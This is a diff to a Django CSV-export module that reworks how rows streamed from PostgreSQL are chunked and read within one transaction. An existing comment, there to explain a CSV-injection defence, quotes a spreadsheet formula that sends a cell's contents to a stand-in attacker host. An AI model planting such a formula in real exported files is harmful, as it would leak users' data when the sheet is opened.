@@ -6,17 +6,18 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Callable, Iterable, Iterator
+from contextlib import nullcontext
 from dataclasses import dataclass
 from datetime import date
 from decimal import Decimal
 from itertools import islice
 
-from django.db import models, transaction
+from django.db import connections, models, transaction
 from django.db.models import Expression, F, Func, QuerySet, TextField, Value
 from django.db.models.constants import LOOKUP_SEP
 from django.db.models.functions import Cast
 
-from hope.compiled import Compiled
+from hope.compiled import Compiled, plan_for_every_row
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -160,13 +161,15 @@ class SqlRows:
 
     queryset: QuerySet
 
-    def lines(self, size: int) -> Iterator[str]:
-        # In a transaction of its own, so the server-side cursor is not WITH HOLD (see
+    def chunks(self, size: int) -> Iterator[list[tuple[str]]]:
+        # In a transaction, so the server-side cursor is not WITH HOLD (see
         # Compiled.stream, which reads SqlLines the same way).
         lines_query = _csv_line_rows(self.queryset)
-        with transaction.atomic(using=lines_query.db):
-            for (line,) in lines_query.iterator(chunk_size=max(size, 2000)):
-                yield line
+        with transaction.atomic(using=lines_query.db, savepoint=False):
+            plan_for_every_row(connections[lines_query.db])
+            lines = lines_query.iterator(chunk_size=size)
+            while chunk := list(islice(lines, size)):
+                yield chunk
 
 
 class SqlLines:
@@ -192,9 +195,8 @@ class SqlLinesPart:
     compiled: Compiled
     values: dict
 
-    def lines(self, size: int) -> Iterator[str]:
-        for (line,) in self.compiled.stream(chunk_size=max(size, 2000), **self.values):
-            yield line
+    def chunks(self, size: int) -> Iterator[list[tuple[str]]]:
+        return self.compiled.chunks(chunk_size=size, **self.values)
 
 
 # Plain columns a spreadsheet reads as written: whole numbers (ids, counts).
@@ -353,6 +355,17 @@ def csv_blocks(
     head = buffer.getvalue()
     buffer.seek(0)
     buffer.truncate()
+    # The parts written by PostgreSQL are read in one transaction (each in a cursor of
+    # its own), not one each.
+    with transaction.atomic(savepoint=False) if _any_sql(parts) else nullcontext():
+        yield from _written(head, parts, writer, buffer, rows_per_block)
+
+
+def _any_sql(parts) -> bool:
+    return any(isinstance(part, SqlRows | SqlLinesPart) for part in parts)
+
+
+def _written(head: str, parts, writer, buffer: io.StringIO, rows_per_block: int):
     for part in parts:
         if isinstance(part, SqlRows | SqlLinesPart):
             for text in _sql_blocks(part, rows_per_block):
@@ -370,10 +383,9 @@ def csv_blocks(
 
 
 def _sql_blocks(part: SqlRows | SqlLinesPart, size: int) -> Iterator[str]:
-    lines = part.lines(size)
-    while block := list(islice(lines, size)):
-        block.append("")
-        yield "\r\n".join(block)
+    # Each block read from PostgreSQL (one round trip) and its lines joined at once.
+    for chunk in part.chunks(size):
+        yield "\r\n".join([line for (line,) in chunk]) + "\r\n"
 
 
 def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
